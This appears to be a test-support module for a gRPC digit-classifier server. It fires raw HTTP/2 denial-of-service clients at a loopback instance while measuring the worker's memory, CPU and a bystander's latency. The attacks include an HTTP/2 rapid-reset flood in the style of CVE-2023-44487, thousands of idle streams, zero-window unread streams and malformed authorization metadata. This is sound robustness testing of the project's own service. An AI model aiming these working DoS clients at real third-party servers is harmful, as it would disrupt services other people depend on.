"""Hostile gRPC clients (raw HTTP/2 frames) and what each did to a `digits serve` worker.

Each attack runs for a bounded time against a server on loopback while a bystander, in a process
of its own so that the attacker's Python does not slow it, keeps calling ModelInfer on a separate
connection. An `AttackReport` holds what the issue's bars are about: the worker's RSS before,
at its peak and after, its CPU, the bystander's statuses and worst latency, and the change in
`digits_requests_total` by code. The tests assert on these; run as a module to print the figures:

    .venv/bin/python -m tests.support.grpc_attacks [--seconds 10] [attack ...]
"""

from __future__ import annotations

import argparse
import json
import os
import subprocess
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np

from tests.support import REPO
from tests.support.h2_raw import CANCEL, RawH2, grpc_frame

V2 = "/inference.GRPCInferenceService/"
INFER = V2 + "ModelInfer"
STREAM_INFER = V2 + "ModelStreamInfer"
CLASSIFY_STREAM = "/digits.v1.DigitClassifier/ClassifyStream"
REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
CLOCK_TICKS = os.sysconf("SC_CLK_TCK")


def infer_message(images: int = 1) -> bytes:
    """A valid V2 ModelInfer request (FP32 zeros), serialised."""
    from service.generated.inference import grpc_predict_v2_pb2 as pb
    request = pb.ModelInferRequest(model_name="mnist_mlp")
    tensor = request.inputs.add(name="pixels", datatype="FP32", shape=[images, 784])
    request.raw_input_contents.append(np.zeros((images, 784), np.float32).tobytes())
    assert tensor.name
    return request.SerializeToString()


def classify_message() -> bytes:
    from service.generated.digits.v1 import digits_pb2 as dpb
    return dpb.ClassifyRequest(pixel_format=dpb.PIXEL_FORMAT_UINT8, pixels=bytes(784)).SerializeToString()


def reflection_message() -> bytes:
    from service.generated.grpc.reflection.v1 import reflection_pb2 as rpb
    return rpb.ServerReflectionRequest(list_services="").SerializeToString()


# -- the worker's resources ---------------------------------------------------------------------
def rss_mb(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    raise RuntimeError("no VmRSS")


def cpu_seconds(pid: int) -> float:
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / CLOCK_TICKS


class ResourceWatch:
    """Samples a process's RSS every 50 ms on a thread; `peak` is the largest seen."""

    def __init__(self, pid: int) -> None:
        self.pid = pid
        self.start_rss = rss_mb(pid)
        self.start_cpu = cpu_seconds(pid)
        self.peak = self.start_rss
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._sample, daemon=True)
        self._thread.start()

    def _sample(self) -> None:
        while not self._stop.wait(0.05):
            try:
                self.peak = max(self.peak, rss_mb(self.pid))
            except (OSError, RuntimeError):
                return

    def stop(self) -> tuple[float, float]:
        """(CPU seconds used since the start, RSS now)."""
        self._stop.set()
        self._thread.join(2)
        return cpu_seconds(self.pid) - self.start_cpu, rss_mb(self.pid)


# -- the bystander ------------------------------------------------------------------------------
def bystander_main(target: str, seconds: float) -> None:
    """Calls ModelInfer (1 image) every 20 ms for `seconds` on a connection of its own, printing
    one JSON line: statuses by name and the worst latency in seconds."""
    import grpc
    from service.generated.inference import grpc_predict_v2_pb2_grpc as v2grpc
    from service.generated.inference import grpc_predict_v2_pb2 as pb
    request = pb.ModelInferRequest.FromString(infer_message())
    codes: Counter[str] = Counter()
    worst = 0.0
    with grpc.insecure_channel(target, options=[("grpc.use_local_subchannel_pool", 1)]) as channel:
        stub = v2grpc.GRPCInferenceServiceStub(channel)
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            began = time.monotonic()
            try:
                stub.ModelInfer(request, timeout=5)
                codes["OK"] += 1
            except grpc.RpcError as exc:
                codes[exc.code().name] += 1
            worst = max(worst, time.monotonic() - began)
            time.sleep(0.02)
    print(json.dumps({"codes": codes, "worst_latency": worst}), flush=True)


class Bystander:
    def __init__(self, target: str, seconds: float) -> None:
        self.process = subprocess.Popen(
            [sys.executable, "-m", "tests.support.grpc_attacks", "--bystander", target, "--seconds", str(seconds)],
            cwd=REPO, stdout=subprocess.PIPE, text=True)

    def result(self, timeout: float) -> dict:
        out, _ = self.process.communicate(timeout=timeout)
        return json.loads(out.strip().splitlines()[-1])


# -- reports ------------------------------------------------------------------------------------
@dataclass
class AttackReport:
    name: str
    seconds: float
    rss_before: float = 0.0
    rss_peak: float = 0.0
    rss_after: float = 0.0
    cpu_seconds: float = 0.0
    bystander: dict = field(default_factory=dict)
    counted: dict = field(default_factory=dict)     # change in digits_requests_total by code
    details: dict = field(default_factory=dict)     # what the attack itself saw

    @property
    def growth_after(self) -> float:
        return self.rss_after - self.rss_before

    @property
    def growth_peak(self) -> float:
        return self.rss_peak - self.rss_before

    def line(self) -> str:
        by = self.bystander
        return (f"{self.name:<22} {self.seconds:>4.0f} s  RSS {self.rss_before:6.1f} -> peak {self.rss_peak:7.1f}"
                f" -> after {self.rss_after:7.1f} MB (+{self.growth_after:.1f})  CPU {self.cpu_seconds:5.2f} s"
                f"  bystander {dict(by.get('codes', {}))} worst {by.get('worst_latency', 0) * 1000:.0f} ms"
                f"  counted {self.counted}  {self.details}")


def requests_by_code(metrics_text: str) -> Counter[str]:
    counts: Counter[str] = Counter()
    for line in metrics_text.splitlines():
        if line.startswith("digits_requests_total{"):
            code = line.split('code="', 1)[1].split('"', 1)[0]
            counts[code] += float(line.split()[-1])
    return counts


def run_attack(name: str, attack: Callable[[int, float], dict], port: int, worker_pid: int,
               scrape: Callable[[], str], seconds: float, settle: float = 1.0) -> AttackReport:
    """Runs `attack(port, seconds)` beside a bystander; measures the worker around it."""
    report = AttackReport(name, seconds)
    before = requests_by_code(scrape())
    watch = ResourceWatch(worker_pid)
    report.rss_before = watch.start_rss
    bystander = Bystander(f"127.0.0.1:{port}", seconds)
    try:
        report.details = attack(port, seconds)
    finally:
        report.bystander = bystander.result(timeout=seconds + 30)
    time.sleep(settle)   # what the attack left behind is released (or not)
    report.cpu_seconds, report.rss_after = watch.stop()
    report.rss_peak = max(watch.peak, report.rss_after)
    after = requests_by_code(scrape())
    bystander_ok = report.bystander.get("codes", {}).get("OK", 0)
    changes = {code: int(after[code] - before[code] - (bystander_ok if code == "OK" else 0)) for code in after}
    report.counted = {code: change for code, change in changes.items() if change}
    return report


# -- the attacks --------------------------------------------------------------------------------
def idle_calls(port: int, seconds: float, calls: int = 300) -> dict:
    """Unary calls that send HEADERS and nothing else, held open: do they hold admission slots?"""
    conn = RawH2(port)
    streams = [conn.open_call(INFER, end_stream=False) for _ in range(calls)]
    conn.pump(seconds)
    ended = [conn.streams[s] for s in streams if conn.streams[s].ended]
    statuses = Counter(str(r.grpc_status if r.grpc_status is not None else f"RST{r.reset}") for r in ended)
    conn.close()
    return {"calls": calls, "ended_by_server": len(ended), "statuses": dict(statuses)}


def idle_streams(port: int, seconds: float, streams: int = 10_000) -> dict:
    """Thousands of idle streams on one connection: is there a per-connection stream limit?"""
    conn = RawH2(port)
    conn.pump(0.2)
    batch = b""
    for i in range(streams):
        stream_id = conn.new_stream()
        batch += conn.headers_frame(stream_id, conn.request_headers(INFER))
        if len(batch) > 64_000:
            conn.send(batch)
            batch = b""
            conn.pump(0)
    conn.send(batch)
    conn.pump(seconds)
    refused = sum(1 for r in conn.streams.values() if r.reset is not None and r.grpc_status is None)
    details = {"opened": streams, "refused_by_rst": refused,
               "max_concurrent_streams": conn.server_settings.get(3), "goaway": conn.goaway,
               "closed": conn.closed}
    conn.close()
    return details


def rapid_reset(port: int, seconds: float, per_write: int = 500) -> dict:
    """HEADERS then RST_STREAM, `per_write` pairs per write (CVE-2023-44487 style)."""
    conn = RawH2(port)
    conn.pump(0.2)
    sent = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end and not conn.closed:
        out = []
        for _ in range(per_write):
            stream_id = conn.new_stream()
            if stream_id >= 2**31 - 1:
                break
            out.append(conn.headers_frame(stream_id, conn.request_headers(INFER)))
            out.append(conn.rst_frame(stream_id, CANCEL))
        if not conn.send(b"".join(out)):
            break
        sent += len(out) // 2
        conn.streams.clear()
        conn.pump(0)
    details = {"streams_sent": sent, "goaway": conn.goaway, "closed": conn.closed}
    conn.close()
    return details


def unread_stream(path: str, message: bytes, streams: int = 1) -> Callable[[int, float], dict]:
    """Streams whose client never reads its replies (its window is 0) but sends requests as fast
    as the server's flow control lets it: do unsent replies, or unread requests, pile up?"""
    def attack(port: int, seconds: float) -> dict:
        conn = RawH2(port, initial_window=0)
        conn.pump(0.2)
        ids = [conn.open_call(path, end_stream=False) for _ in range(streams)]
        framed = grpc_frame(message)
        chunk = framed * (65536 // len(framed) + 1)
        backlog = dict.fromkeys(ids, b"")
        sent = 0
        end = time.monotonic() + seconds
        while time.monotonic() < end and not conn.closed:
            went = 0
            for stream_id in ids:
                if conn.streams[stream_id].reset is not None:
                    continue
                if len(backlog[stream_id]) < 65536:
                    backlog[stream_id] += chunk
                n = conn.send_within_window(stream_id, backlog[stream_id])
                backlog[stream_id] = backlog[stream_id][n:]
                went += n
            sent += went
            conn.pump(0 if went else 0.05)
        results = [conn.streams[s] for s in ids]
        details = {"streams": streams, "messages_sent": sent // len(framed),
                   "streams_reset": sum(r.reset is not None for r in results),
                   "statuses": dict(Counter(r.grpc_status for r in results))}
        conn.close()
        return details
    return attack


def bad_metadata(port: int, seconds: float) -> dict:
    """Calls whose `authorization` value is not UTF-8 (and a health check like it)."""
    conn = RawH2(port)
    metadata = [(b"authorization", b"Bearer \xff\xfe")]
    calls = [conn.open_call(INFER, metadata, grpc_frame(infer_message())) for _ in range(20)]
    calls.append(conn.open_call("/grpc.health.v1.Health/Check", metadata, grpc_frame(b"")))
    conn.wait(lambda: all(conn.streams[s].ended for s in calls), timeout=seconds + 5)
    statuses = Counter(conn.streams[s].grpc_status for s in calls)
    conn.close()
    return {"statuses": dict(statuses)}


# name -> a factory of the attack (stream attacks build their real request message when made)
ATTACKS: dict[str, Callable[[], Callable[[int, float], dict]]] = {
    "idle_calls": lambda: idle_calls,
    "idle_streams": lambda: idle_streams,
    "rapid_reset": lambda: rapid_reset,
    "unread_reflection": lambda: unread_stream(REFLECTION, reflection_message()),
    "unread_classify_stream": lambda: unread_stream(CLASSIFY_STREAM, classify_message()),
    "unread_model_stream": lambda: unread_stream(STREAM_INFER, infer_message()),
    "unread_streams_100": lambda: unread_stream(CLASSIFY_STREAM, classify_message(), streams=100),
    "bad_metadata": lambda: bad_metadata,
}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("attacks", nargs="*", default=list(ATTACKS))
    parser.add_argument("--seconds", type=float, default=10.0)
    parser.add_argument("--bystander", metavar="TARGET", help=argparse.SUPPRESS)
    parser.add_argument("--serve-arg", action="append", default=[], help="extra `digits serve` argument")
    args = parser.parse_args()
    if args.bystander:
        bystander_main(args.bystander, args.seconds)
        return
    from tests.support.server import RunningServer
    for name in args.attacks:   # a fresh server for each, so that one attack's leftovers do not count for the next
        server = RunningServer("--workers", "1", "--no-http", *args.serve_arg)
        try:
            port = int(server.address.rsplit(":", 1)[1])
            report = run_attack(name, ATTACKS[name](), port, server.worker_pids()[0],
                                server.metrics_text, args.seconds)
            tracebacks = server.sync_log().count("Traceback")
            print(report.line() + f"  tracebacks {tracebacks}", flush=True)
        finally:
            server.stop()


if __name__ == "__main__":
    main()
